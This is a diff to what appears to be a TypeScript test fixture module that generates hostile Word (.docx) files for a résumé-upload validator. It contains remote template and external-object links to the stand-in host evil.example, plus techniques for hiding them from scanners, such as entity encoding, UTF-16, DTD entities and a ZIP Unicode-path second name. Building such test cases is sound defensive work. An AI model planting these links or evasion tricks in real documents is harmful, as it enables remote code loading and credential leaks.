@@ -20,7 +20,9 @@ import {
 type HostileDocx = [what: string, error: FieldError, bytes: Uint8Array<ArrayBuffer>]
 
 export async function hostileDocx(): Promise<HostileDocx[]> {
-  return (await Promise.all([otherPackages(), macroDocuments(), linkedDocuments(), brokenDocuments()])).flat()
+  return (
+    await Promise.all([otherPackages(), macroDocuments(), linkedDocuments(), disguisedLinks(), brokenDocuments()])
+  ).flat()
 }
 
 async function otherPackages(): Promise<HostileDocx[]> {
@@ -96,23 +98,25 @@ async function macroDocuments(): Promise<HostileDocx[]> {
   ]
 }
 
+const SETTINGS = 'word/_rels/settings.xml.rels'
+
+/** Documents with links that Word would follow without asking. */
 async function linkedDocuments(): Promise<HostileDocx[]> {
-  const settings = 'word/_rels/settings.xml.rels'
   const body = 'word/_rels/document.xml.rels'
   const links: [what: string, part: string, type: string, target: string][] = [
-    ['a template from the web', settings, 'attachedTemplate', 'https://evil.example/x.dotm'],
-    ['a template address in references', settings, 'attachedTemplate', '&#104;ttp&#x3A;//evil.example/x.dotm'],
-    ['a template in a Windows share', settings, 'attachedTemplate', '\\\\evil.example\\share\\x.dotm'],
-    ['a template in a share as file address', settings, 'attachedTemplate', 'file:///\\\\evil.example\\share\\x.dotm'],
-    ['a template on a file server', settings, 'attachedTemplate', 'file://evil.example/x.dotm'],
+    ['a template from the web', SETTINGS, 'attachedTemplate', 'https://evil.example/x.dotm'],
+    ['a template address in references', SETTINGS, 'attachedTemplate', '&#104;ttp&#x3A;//evil.example/x.dotm'],
+    ['a template in a Windows share', SETTINGS, 'attachedTemplate', '\\\\evil.example\\share\\x.dotm'],
+    ['a template in a share as file address', SETTINGS, 'attachedTemplate', 'file:///\\\\evil.example\\share\\x.dotm'],
+    ['a template on a file server', SETTINGS, 'attachedTemplate', 'file://evil.example/x.dotm'],
     [
       'a template on a server called like this one',
-      settings,
+      SETTINGS,
       'attachedTemplate',
       'file://localhost.evil.example/x.dotm',
     ],
-    ['a template in an escaped share', settings, 'attachedTemplate', '%5C%5Cevil.example%5Cx.dotm'],
-    ['a template by FTP', settings, 'attachedTemplate', 'ftp://evil.example/x.dotm'],
+    ['a template in an escaped share', SETTINGS, 'attachedTemplate', '%5C%5Cevil.example%5Cx.dotm'],
+    ['a template by FTP', SETTINGS, 'attachedTemplate', 'ftp://evil.example/x.dotm'],
     ['an object from the web', body, 'oleObject', 'http://evil.example/x.html!'],
     [
       'an object as web archive',
@@ -124,47 +128,52 @@ async function linkedDocuments(): Promise<HostileDocx[]> {
     ['a subdocument', body, 'subDocument', 'https://evil.example/x.docx'],
     ['a chunk', body, 'aFChunk', 'https://evil.example/x.html'],
   ]
-  const rows = links.map(
-    async ([what, part, type, target]): Promise<HostileDocx> => [
-      what,
-      'resume_macros',
-      await docxWithLink(part, type, target),
-    ],
+  return Promise.all(
+    links.map(
+      async ([what, part, type, target]): Promise<HostileDocx> => [
+        what,
+        'resume_macros',
+        await docxWithLink(part, type, target),
+      ],
+    ),
   )
-  const hidden = relationships(['attachedTemplate', 'https://evil.example/x.dotm', ' TargetMode="External"'])
-  // The extra field gives `settings` a second name, as an Info-ZIP Unicode path (APPNOTE 4.6.9): a version, the
+}
+
+/** Documents with the link to a template, written so that a simple search does not find it. */
+async function disguisedLinks(): Promise<HostileDocx[]> {
+  const link = relationships(['attachedTemplate', 'https://evil.example/x.dotm', ' TargetMode="External"'])
+  // The extra field gives `SETTINGS` a second name, as an Info-ZIP Unicode path (APPNOTE 4.6.9): a version, the
   // checksum of the first name, and the second name. `zipOf` adds the field to every part, but the checksum fits only
-  // `settings`. Word reads the first name only.
+  // `SETTINGS`. Word reads the first name only.
   const secondName = new Map([[0x7075, joined(fromHex('012e4fc970'), bytesOf('word/notes.xml'))]])
   return [
-    ...(await Promise.all(rows)),
     [
       'a template with a > in an attribute',
       'resume_macros',
-      await docxOf({ [settings]: hidden.replace('Id="', 'Note=">" Id="') }),
+      await docxOf({ [SETTINGS]: link.replace('Id="', 'Note=">" Id="') }),
     ],
-    ['a template in apostrophes', 'resume_macros', await docxOf({ [settings]: hidden.replaceAll('"', "'") })],
+    ['a template in apostrophes', 'resume_macros', await docxOf({ [SETTINGS]: link.replaceAll('"', "'") })],
     [
       'a template under a prefix',
       'resume_macros',
-      await docxOf({ [settings]: hidden.replace('<Relationship ', '<r:Relationship\n') }),
+      await docxOf({ [SETTINGS]: link.replace('<Relationship ', '<r:Relationship\n') }),
     ],
     [
       'a template in a part that is marked as a folder',
       'resume_damaged',
-      asFolder(await docxOf({ [settings]: hidden }), settings),
+      asFolder(await docxOf({ [SETTINGS]: link }), SETTINGS),
     ],
     [
       'a template in a part with a second name',
       'resume_macros',
-      await zipOf({ ...documentParts(), [settings]: hidden }, { extraField: secondName, useUnicodeFileNames: false }),
+      await zipOf({ ...documentParts(), [SETTINGS]: link }, { extraField: secondName, useUnicodeFileNames: false }),
     ],
-    ['a template in UTF-16', 'resume_macros', await docxOf({ [settings]: utf16Of(`\ufeff${hidden}`) })],
+    ['a template in UTF-16', 'resume_macros', await docxOf({ [SETTINGS]: utf16Of(`\ufeff${link}`) })],
     [
       'a template in an entity',
       'resume_damaged',
       await docxOf({
-        [settings]: `<!DOCTYPE r [<!ENTITY x "https://evil.example/">]>${hidden.replace('https://evil.example/', '&x;')}`,
+        [SETTINGS]: `<!DOCTYPE r [<!ENTITY x "https://evil.example/">]>${link.replace('https://evil.example/', '&x;')}`,
       }),
     ],
   ]
